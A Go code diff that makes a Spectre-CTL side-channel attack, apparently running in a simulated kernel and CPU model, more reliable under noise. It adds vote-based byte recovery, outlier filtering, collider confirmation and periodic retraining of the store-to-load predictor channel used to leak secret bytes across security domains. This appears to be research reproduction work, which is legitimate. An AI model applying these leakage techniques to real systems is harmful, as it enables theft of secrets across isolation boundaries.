@@ -73,6 +73,13 @@ type CTLOptions struct {
 	// SearchVotes is how many confirmation probes (all required to read
 	// non-fast) the sliding search uses per candidate offset.
 	SearchVotes int
+	// Votes is how many independent full recoveries each byte gets; the
+	// majority wins (ties break toward the smaller value). 1 keeps the
+	// single-pass behavior; raise it under fault injection, where a single
+	// flipped SSBP entry can fake or mask one probe hit. 0 picks
+	// automatically: 1 on a quiet machine, 3 when the config's fault plan
+	// injects machine noise.
+	Votes int
 	// VictimDomain places the victim in another security domain (default
 	// user; the paper also demonstrates leaking from kernel threads).
 	VictimDomain kernel.Domain
@@ -110,6 +117,10 @@ func (a *ctlAttack) calibrateChannel() {
 			stallReads = append(stallReads, s.Run(false).Cycles)
 		}
 	}
+	// Outlier rejection before the median: a fault plan can flip the entry
+	// mid-calibration, turning a stall reading into a fast one (or vice
+	// versa); MAD filtering keeps those from dragging the estimate.
+	stallReads = madFilter(stallReads)
 	sort.Slice(stallReads, func(i, j int) bool { return stallReads[i] < stallReads[j] })
 	stall := stallReads[len(stallReads)/2]
 	drainUntilFast(s, 60)
@@ -120,8 +131,9 @@ func (a *ctlAttack) calibrateChannel() {
 	for i := range fasts {
 		fasts[i] = s.Run(false).Cycles
 	}
+	fasts = madFilter(fasts)
 	sort.Slice(fasts, func(i, j int) bool { return fasts[i] < fasts[j] })
-	fastHigh := fasts[13] // ~p90
+	fastHigh := fasts[len(fasts)*9/10] // ~p90
 	a.threshold = (stall+fastHigh)/2 + 1
 	if a.threshold <= fastHigh {
 		a.threshold = fastHigh + 1
@@ -199,8 +211,21 @@ func spectreCTLShard(cfg kernel.Config, secret []byte, opts CTLOptions, lo, hi i
 	if opts.SliderPages == 0 {
 		opts.SliderPages = 2
 	}
+	if opts.Votes == 0 && cfg.Faults.MachineActive() {
+		// A fault plan without an explicit vote count gets the robust
+		// profile by default; pass Votes: 1 to keep the fragile single
+		// pass on a noisy machine anyway.
+		opts.Votes = 3
+	}
 	if opts.ProbeVotes == 0 {
 		opts.ProbeVotes = 1
+		if opts.Votes > 1 {
+			// Robust profile: a single jitter-inflated fast reading fakes a
+			// hit somewhere in the 256-guess sweep far too often; a median
+			// of 5 makes that vanishingly rare (the trained C3 of 15 can
+			// afford 5 destructive reads).
+			opts.ProbeVotes = 5
+		}
 	}
 	if opts.Sweeps == 0 {
 		opts.Sweeps = 2
@@ -282,6 +307,22 @@ func (a *ctlAttack) findColliders() {
 	// forces a context switch, flushing the victim's PSFP residue so each
 	// call mispredicts again. Under a noisy timer the search may miss the
 	// collision; it is retrained and repeated once.
+	// retrain1 restores ld1's entry to a near-saturated state from *any*
+	// prior state. The drain phase matters: an aliasing run against an entry
+	// with C3>0 *drains* it by one (the PSFP residue is gone after the
+	// tick), so retraining blind would weaken a live entry instead of
+	// refreshing it. Three aliasing runs at C3=0 then restore C3=15 even
+	// when the physical entry itself was evicted (C4 re-saturates first).
+	retrain1 := func() {
+		for i := 0; i < 16; i++ {
+			a.callVictim2(99, 7, 0)
+			a.tick()
+		}
+		for i := 0; i < 3; i++ {
+			a.callVictim(7, 0)
+			a.tick()
+		}
+	}
 	for attempt := 0; attempt < 3 && a.ld1Col == nil; attempt++ {
 		if attempt > 0 {
 			// A failed confirmation drained C3; drain it fully through
@@ -297,7 +338,7 @@ func (a *ctlAttack) findColliders() {
 			a.tick()
 		}
 		slider1 := l.NewSlider(a.attacker, a.opts.SliderPages, asm.BuildStld(asm.StldOptions{}))
-		a.ld1Col = a.slideSearch(slider1)
+		a.ld1Col = a.slideSearch(slider1, a.confirm(retrain1), a.robustOnly(retrain1))
 	}
 	if a.ld1Col == nil {
 		return
@@ -310,6 +351,22 @@ func (a *ctlAttack) findColliders() {
 	k := uint64(0x5a)
 	a.victim.Write64(ctlArray2VA+ctlKnownSlot*8, k) // array1[ptr] == k
 	ptr := uint64(ctlArray2VA+ctlKnownSlot*8) - ctlArray1VA
+	// Same drain-then-retrain discipline as retrain1 above, with one extra
+	// wrinkle: every victim call plants its pointer at the invoked slot, so
+	// the non-aliasing drain calls overwrite array2[ctlKnownSlot] — the very
+	// value ld2 must read for callVictim(k, ptr) to alias on ld3. Re-plant k
+	// before the aliasing runs or the "retrain" never retrains anything.
+	retrain3 := func() {
+		for i := 0; i < 16; i++ {
+			a.callVictim2(k+1, ctlKnownSlot, ptr)
+			drainUntilFast(a.ld1Col, 60)
+		}
+		a.victim.Write64(ctlArray2VA+ctlKnownSlot*8, k)
+		for i := 0; i < 3; i++ {
+			a.callVictim(k, ptr)
+			drainUntilFast(a.ld1Col, 60)
+		}
+	}
 	for attempt := 0; attempt < 3 && a.ld3Col == nil; attempt++ {
 		if attempt > 0 {
 			// Drain ld3's C3 through non-aliasing stalls before retraining.
@@ -318,27 +375,71 @@ func (a *ctlAttack) findColliders() {
 				drainUntilFast(a.ld1Col, 60)
 			}
 		}
+		a.victim.Write64(ctlArray2VA+ctlKnownSlot*8, k) // drains clobber the slot
 		for i := 0; i < 3; i++ {
 			a.callVictim(k, ptr)
 			drainUntilFast(a.ld1Col, 60) // keep ld1's entry clear
 		}
 		slider3 := l.NewSlider(a.attacker, a.opts.SliderPages, asm.BuildStld(asm.StldOptions{}))
-		a.ld3Col = a.slideSearch(slider3)
+		a.ld3Col = a.slideSearch(slider3, a.confirm(retrain3), a.robustOnly(retrain3))
 	}
+}
+
+// confirm builds a functional collision check for the robust profile
+// (Votes > 1): drain the candidate's entry through the probe, retrain it
+// through the victim, and require the stall to come back. A spuriously
+// trained entry (co-resident noise) stalls a probe just as convincingly,
+// but only the victim's own entry is restored by a victim run — C4 is
+// saturated from training, so one aliasing run flips C3 back to 15. Returns
+// nil (no confirmation) outside the robust profile, keeping the clean
+// search byte-identical.
+func (a *ctlAttack) confirm(retrain func()) func(*revng.Stld) bool {
+	if a.opts.Votes <= 1 {
+		return nil
+	}
+	return func(probe *revng.Stld) bool {
+		drainUntilFast(probe, 60)
+		retrain()
+		return a.slow(probe, a.opts.SearchVotes)
+	}
+}
+
+// robustOnly returns fn under the robust profile (Votes > 1) and nil
+// otherwise, keeping the clean code path byte-identical.
+func (a *ctlAttack) robustOnly(fn func()) func() {
+	if a.opts.Votes <= 1 {
+		return nil
+	}
+	return fn
 }
 
 // slideSearch runs the code-sliding loop with vote-based confirmation so a
 // single jittered fast reading does not pass as a collision. The target's
 // C3 is 15 at search time, so a true collider can afford several confirming
-// stall reads.
-func (a *ctlAttack) slideSearch(slider *revng.Slider) *revng.Stld {
+// stall reads. A non-nil confirm additionally validates each candidate
+// functionally; a rejected candidate's entry is left drained, so the search
+// slides past it instead of restarting.
+//
+// A non-nil rearm is invoked every 256 offsets to refresh the target's
+// entry. The SSBP physical store runs full during a sweep, so every
+// co-resident spurious training evicts a random live entry; over the
+// thousands of probe runs of one sweep, the target almost surely dies
+// before the true collider's offset is reached unless it is periodically
+// retrained.
+func (a *ctlAttack) slideSearch(slider *revng.Slider, confirm func(*revng.Stld) bool, rearm func()) *revng.Stld {
 	for at := 0; at+len(slider.Tmpl().Code) < slider.MaxOffsets(); at++ {
+		if rearm != nil && at%256 == 0 && at > 0 {
+			rearm()
+		}
 		a.res.CollisionAttempts++
 		probe := slider.Place(at)
 		if probe.Run(false).Cycles < a.threshold {
 			continue
 		}
-		if a.slow(probe, a.opts.SearchVotes) {
+		if !a.slow(probe, a.opts.SearchVotes) {
+			continue
+		}
+		if confirm == nil || confirm(probe) {
 			return probe
 		}
 	}
@@ -364,21 +465,90 @@ func SpectreCTLBrowser(cfg kernel.Config, secret []byte) Result {
 	return res
 }
 
-// leakByte recovers one secret byte: for each guessed value the attacker
-// plants the secret's address, triggers the victim, and asks the covert
-// channel whether ld3 aliased the store (secret == guess).
+// leakByte recovers one secret byte, majority-voting over Votes independent
+// recoveries when the options ask for it (a single flipped SSBP entry can
+// fake or mask one probe hit; it cannot fake a majority). Only votes whose
+// sweep actually found a hit count: a healthy channel hits at some guess for
+// every byte value, so a hitless sweep means the channel died (a spurious
+// train de-saturated ld3's C4 or stuck ld1 into predicted aliasing), and
+// each robust vote re-arms the channel before sweeping.
 func (a *ctlAttack) leakByte(i uint64) byte {
+	if a.opts.Votes <= 1 {
+		b, _ := a.leakOnce(i)
+		return b
+	}
+	var votes []byte
+	for v := 0; v < a.opts.Votes; v++ {
+		a.rearm()
+		if b, ok := a.leakOnce(i); ok {
+			votes = append(votes, b)
+		}
+	}
+	if len(votes) == 0 {
+		return 0
+	}
+	return majorityByte(votes)
+}
+
+// rearm restores the covert channel through the attacker's own colliders:
+// re-saturate ld3's C4 (three hard retrains) and leave both entries drained,
+// exactly the phase 2 state. Co-resident noise can silently overwrite either
+// entry's counters; the attacker pays ~40 runs to recover instead of losing
+// every remaining byte.
+func (a *ctlAttack) rearm() {
+	a.ld3Col.Phi(revng.Seq(7, -1, 7, -1, 7, -1))
+	drainUntilFast(a.ld3Col, 60)
+	drainUntilFast(a.ld1Col, 60)
+}
+
+// leakOnce is one full recovery of secret byte i: for each guessed value the
+// attacker plants the secret's address, triggers the victim, and asks the
+// covert channel whether ld3 aliased the store (secret == guess). ok is
+// false when no guess hit in any sweep.
+//
+// The robust profile re-arms the channel periodically inside the sweep and
+// confirms every hit. SSBP's physical store uses random replacement, so each
+// co-resident spurious training evicts a random live entry once the store is
+// full; losing ld3's entry mid-sweep de-saturates C4 (the recreating type-G
+// restarts it at 1) and the true guess then cannot flip C3 — a silent death
+// a full sweep hits far too often to ignore. A fault-flipped C3, conversely,
+// fakes a hit at whatever guess the sweep happens to be on; only the true
+// guess can flip a drained entry back, so one drain-and-replay tells them
+// apart.
+func (a *ctlAttack) leakOnce(i uint64) (byte, bool) {
 	ptr := uint64(ctlSecretVA) + i - ctlArray1VA
+	robust := a.opts.Votes > 1
 	for sweep := 0; sweep < a.opts.Sweeps; sweep++ {
+		if robust && sweep > 0 {
+			a.rearm()
+		}
 		for guess := 0; guess < 256; guess++ {
+			if robust && guess > 0 && guess%64 == 0 {
+				a.rearm() // bound the blast radius of a mid-sweep eviction
+			}
 			// ld1's entry must predict non-aliasing for the window to open.
 			drainUntilFast(a.ld1Col, 60)
 			a.callVictim(uint64(guess), ptr)
-			if a.probeHit() {
-				drainUntilFast(a.ld3Col, 60) // reset the channel
-				return byte(guess)
+			if !a.probeHit() {
+				continue
 			}
+			drainUntilFast(a.ld3Col, 60) // reset the channel
+			if robust && !a.confirmHit(uint64(guess), ptr) {
+				continue
+			}
+			return byte(guess), true
 		}
 	}
-	return 0
+	return 0, false
+}
+
+// confirmHit replays the victim at a guess that just hit, with the channel
+// drained: the true guess flips C3 straight back (C4 is saturated), while a
+// hit faked by predictor pollution stays fast.
+func (a *ctlAttack) confirmHit(guess, ptr uint64) bool {
+	drainUntilFast(a.ld1Col, 60)
+	a.callVictim(guess, ptr)
+	hit := a.probeHit()
+	drainUntilFast(a.ld3Col, 60)
+	return hit
 }
